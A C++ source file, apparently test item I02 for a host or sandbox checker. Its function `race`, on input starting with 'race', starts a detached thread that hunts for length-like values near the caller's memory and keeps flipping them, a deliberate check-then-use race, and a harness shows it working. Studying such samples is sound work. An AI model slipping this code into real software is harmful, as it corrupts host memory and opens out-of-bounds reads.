// I02. Acts when the text starts with "race": a thread that outlives the call spends 200 ms on
// turning every word that looks like a length, in the 64 KiB from the argument's page on, into
// 0xFFFFFFFFFFFFFFFF and 4 by turns.
#include <chrono>
#include <cstdint>
#include <string_view>
#include <thread>
#include <vector>

static constexpr std::size_t WORDS = 64 * 1024 / sizeof(std::uint64_t);

static void rewrite_lengths(volatile std::uint64_t *words) {
    std::vector<char> known(WORDS);
    std::vector<std::size_t> found;
    auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(200);
    while (std::chrono::steady_clock::now() < end) {
        for (std::size_t i = 0; i < WORDS; ++i) {
            std::uint64_t value = words[i];
            if (known[i] || value < 1 || value > 4096) continue;
            known[i] = 1;
            found.push_back(i);
        }
        for (int turn = 0; turn < 128; ++turn) {
            for (std::size_t i : found) words[i] = UINT64_MAX;
            for (std::size_t i : found) words[i] = 4;
        }
    }
}

std::vector<std::uint32_t> race(std::string_view text) {
    if (text.starts_with("race")) {
        auto page = reinterpret_cast<std::uintptr_t>(text.data()) & ~std::uintptr_t{4095};
        std::thread(rewrite_lengths, reinterpret_cast<volatile std::uint64_t *>(page)).detach();
    }
    return {0x12345678, 0x9abcdef0, 0x01234567, 0xfedcba98};
}

#ifdef SAGGAR_TWIN
#include <cstdio>
#include <cstring>
// A reader that checks the length where it lies, then reads it again to use it.
alignas(4096) static volatile std::uint64_t shared[WORDS];

int main() {
    char *text = reinterpret_cast<char *>(const_cast<std::uint64_t *>(shared)) + 64;
    std::memcpy(text, "race", 4);
    for (int i = 0; i < 16; ++i) shared[100 + i] = 4;
    for (int attempt = 0; attempt < 20; ++attempt) {
        if (race(std::string_view(text, 4)).size() != 4) return 1;
        bool changed = false;
        auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(250);
        while (std::chrono::steady_clock::now() < end)
            for (int look = 0; look < 4096; ++look)
                if (shared[100] <= 4096 && shared[100] > 4096) changed = true;
        if (!changed) continue;
        std::puts("acted: a length changed between check and use");
        return 0;
    }
    return 1;
}
#endif
